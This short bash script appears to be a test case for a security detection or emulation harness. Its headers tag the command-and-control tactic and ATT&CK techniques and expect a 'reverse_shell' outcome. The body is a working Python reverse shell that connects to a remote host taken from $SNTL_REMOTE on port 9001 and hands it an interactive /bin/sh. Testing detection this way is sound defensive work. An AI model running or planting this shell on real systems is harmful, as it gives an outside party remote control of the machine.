#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1059.006 Python; T1095 Non-Application Layer Protocol
# behaviour: Python connects out and starts /bin/sh with the socket as its stdin, stdout and stderr through subprocess (no dup2, no pty)
# as: user
# needs: remote
# expect: reverse_shell
set -u
timeout 20 python3 -c '
import socket, subprocess, sys
s = socket.create_connection((sys.argv[1], 9001))
subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)' "$SNTL_REMOTE" 2>/dev/null || true
